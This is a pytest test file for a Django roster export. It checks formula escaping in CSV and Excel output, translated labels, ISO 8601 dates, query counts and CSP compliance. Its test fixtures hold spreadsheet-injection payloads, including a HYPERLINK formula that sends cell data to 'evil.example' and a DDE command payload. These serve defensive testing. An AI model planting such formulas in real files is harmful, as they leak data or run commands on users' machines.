"""The roster export: no formula runs in a spreadsheet, labels in the exporter's language,
aware ISO 8601 dates, and a page that works under the Content Security Policy."""

import csv
import io
import re
from datetime import UTC, datetime

import openpyxl
import pytest
from django.http import FileResponse
from django.urls import reverse
from django.utils import translation

from experts.models import Expert
from experts.resources import escape_formula
from tests.test_experts_staff import ROSTER_MANAGERS, make_expert, staff

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("experts_env")]

CSV_FORMAT, XLSX_FORMAT = "0", "1"
# The roster list (staff session, permissions, filters, one page, counts).
LIST_QUERIES = 13
# The export page, then the export: its row in the audit log (a count and an INSERT), then one
# chunk of 100 experts with its prefetches.
EXPORT_QUERIES = 23
ATTACKS = {
    "organisation": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "=1+1",
    "given_name": "+Amina",
    "family_name": "-2+3",
}


def export_url(language="en", query=""):
    with translation.override(language):
        return reverse("admin:experts_expert_export") + query


def export(client, language="en", fmt=CSV_FORMAT):
    url = export_url(language)
    page = client.get(url)
    assert page.status_code == 200
    fields = [name for name in page.context["form"].fields if name.startswith("expertresource_")]
    response = client.post(url, {"format": fmt, **dict.fromkeys(fields, "on")})
    assert response.status_code == 200
    assert response.streaming  # written row by row, never the whole roster in memory
    content = b"".join(response.streaming_content)
    if fmt == CSV_FORMAT:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def manager_client(client):
    client.force_login(staff("manager", ROSTER_MANAGERS))
    return client


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("==1+1", "'==1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+903124686172", "+903124686172"),  # a plain number cannot run
        ("-12.5", "-12.5"),
        ("Ministry = MFA", "Ministry = MFA"),
        ("", ""),
        (12, 12),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


def test_no_formula_reaches_the_csv(manager_client):
    make_expert(**ATTACKS)
    header, row = export(manager_client)
    cells = dict(zip(header, row, strict=True))
    assert cells["Organisation"] == "'" + ATTACKS["organisation"]
    assert cells["Current position"] == "'" + ATTACKS["position"]
    assert cells["Summary of expertise"] == "'=1+1"
    assert cells["Given name"] == "'+Amina"
    assert cells["Family name"] == "'-2+3"
    assert cells["Phone"] == "+903124686172"
    assert not [
        cell for cell in row if cell[:1] in ("=", "+", "-", "@") and cell != "+903124686172"
    ]


def test_no_formula_reaches_the_excel_file(manager_client):
    make_expert(**ATTACKS)
    header, row = export(manager_client, fmt=XLSX_FORMAT)
    names = [cell.value for cell in header]
    cells = dict(zip(names, row, strict=True))
    assert cells["Organisation"].value == "'" + ATTACKS["organisation"]
    assert cells["Summary of expertise"].value == "'=1+1"
    assert all(cell.data_type != "f" for cell in row)


LABELS = {
    "en": {"Title": "Dr", "Sector": "Government or public institution", "Status": "Approved"},
    "ar": {"اللقب": "د.", "القطاع": "حكومة أو مؤسسة عامة", "الحالة": "معتمد"},
    "fr": {
        "Civilité": "Dr",
        "Secteur": "Administration ou institution publique",
        "Statut": "Approuvé",
    },
}


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_headers_and_choices_in_the_exporters_language(manager_client, language, fmt):
    make_expert(title="dr", status=Expert.Status.APPROVED)
    rows = export(manager_client, language, fmt)
    if fmt == XLSX_FORMAT:
        rows = [[cell.value for cell in row] for row in rows]
    cells = dict(zip(*rows, strict=True))
    with translation.override(language):
        degree = str(Expert.Degree.DOCTORATE.label)
        nationality = str(Expert(nationality="JO").nationality.name)
    assert cells | LABELS[language] == cells, {k: cells.get(k) for k in LABELS[language]}
    assert degree in cells.values() and degree != "doctorate"
    assert nationality in cells.values()
    assert "government" not in cells.values()


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_dates_are_aware_iso_8601(manager_client, fmt):
    expert = make_expert(status=Expert.Status.APPROVED)
    moment = datetime(2025, 6, 1, 10, 5, 30, 123456, tzinfo=UTC)
    Expert.objects.filter(pk=expert.pk).update(
        created_at=moment, confirmed_at=moment, reviewed_at=None
    )
    rows = export(manager_client, "en", fmt)
    if fmt == XLSX_FORMAT:
        rows = [[cell.value for cell in row] for row in rows]
    cells = dict(zip(*rows, strict=True))
    assert cells["Registered"] == "2025-06-01T13:05:30+03:00"  # Europe/Istanbul
    assert datetime.fromisoformat(cells["E-mail confirmed"]) == moment.replace(microsecond=0)
    assert cells["Reviewed"] in ("", None)


def test_the_export_page_has_no_inline_script_or_style(manager_client, language):
    make_expert()
    response = manager_client.get(export_url(language))
    html = response.content.decode()
    assert not re.search(r"\son[a-z]+=", html), "inline event handler"
    assert not re.search(r"\sstyle=", html), "style attribute"
    assert "<script>" not in html
    assert 'src="/static/js/experts-export.js"' in html
    assert 'id="select-all-toggle"' in html and 'for="select-all-toggle"' in html
    with translation.override(language):
        label = str(Expert._meta.get_field("family_name").verbose_name).capitalize()
    assert label in html  # column choices are labelled in the page language too


# At scale: the list and the export cost the same number of queries for 3 or 60 experts.


def make_experts(count):
    for number in range(count):
        expert = make_expert(email=f"expert-{number}@example.org")
        expert.languages.create(language="en", level="fluent")


@pytest.mark.parametrize("count", [3, 60])
def test_the_roster_list_costs_the_same_queries_however_many_experts(
    manager_client, count, django_assert_num_queries
):
    make_experts(count)
    with django_assert_num_queries(LIST_QUERIES):
        response = manager_client.get(reverse("admin:experts_expert_changelist"))
    assert response.status_code == 200


def test_the_roster_list_names_the_countries_in_the_staff_language(manager_client):
    make_expert()  # nationality JO, residence TR
    make_expert(email="no-residence@example.org", country_of_residence="")
    with translation.override("fr"):
        html = manager_client.get(reverse("admin:experts_expert_changelist")).content.decode()
    assert '<td class="field-nationality_name">Jordanie</td>' in html
    assert '<td class="field-country_of_residence_name">Turquie</td>' in html
    assert '<td class="field-country_of_residence_name">-</td>' in html


@pytest.mark.parametrize("count", [3, 60])
def test_the_csv_export_is_streamed_in_chunks_of_constant_queries(
    manager_client, count, django_assert_num_queries
):
    make_experts(count)
    with django_assert_num_queries(EXPORT_QUERIES):
        rows = export(manager_client)
    assert len(rows) == count + 1


@pytest.mark.parametrize("count", [3, 60])
def test_the_excel_export_is_written_to_a_file_in_chunks_of_constant_queries(
    manager_client, count, django_assert_num_queries
):
    make_experts(count)
    with django_assert_num_queries(EXPORT_QUERIES):
        rows = export(manager_client, fmt=XLSX_FORMAT)
    assert len(rows) == count + 1
    assert all("Haddad" in [cell.value for cell in row] for row in rows[1:])


def test_the_excel_export_is_sent_from_a_temporary_file_written_row_by_row(
    manager_client, monkeypatch
):
    """openpyxl's write-only mode (one row in memory, the sheet on disk), then the file is sent
    in blocks: the roster is never a workbook in memory."""
    import openpyxl as module

    from core import exports

    modes, files = [], []
    original_workbook, original_file = module.Workbook, exports.xlsx_file

    def workbook(*args, **kwargs):
        modes.append(kwargs.get("write_only", False))
        return original_workbook(*args, **kwargs)

    def xlsx_file(*args, **kwargs):
        files.append(original_file(*args, **kwargs))
        return files[-1]

    monkeypatch.setattr(module, "Workbook", workbook)
    monkeypatch.setattr(exports, "xlsx_file", xlsx_file)
    make_experts(2)
    url = export_url()
    fields = [n for n in manager_client.get(url).context["form"].fields if n.startswith("expert")]
    response = manager_client.post(url, {"format": XLSX_FORMAT, **dict.fromkeys(fields, "on")})
    assert modes == [True]
    assert isinstance(response, FileResponse) and files[0].fileno() >= 0  # sent from a file
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert "private, no-store" in response["Cache-Control"]
    content = b"".join(response.streaming_content)
    assert len(openpyxl.load_workbook(io.BytesIO(content)).active["A"]) == 3
    response.close()
    assert files[0].closed  # and so deleted: a TemporaryFile has no name


def test_characters_excel_refuses_are_replaced_not_a_failed_export(manager_client):
    make_expert(organisation="Bell\x07 and\x1b escape")
    header, row = export(manager_client, fmt=XLSX_FORMAT)
    cells = dict(zip([cell.value for cell in header], [cell.value for cell in row], strict=True))
    assert cells["Organisation"] == "Bell\ufffd and\ufffd escape"
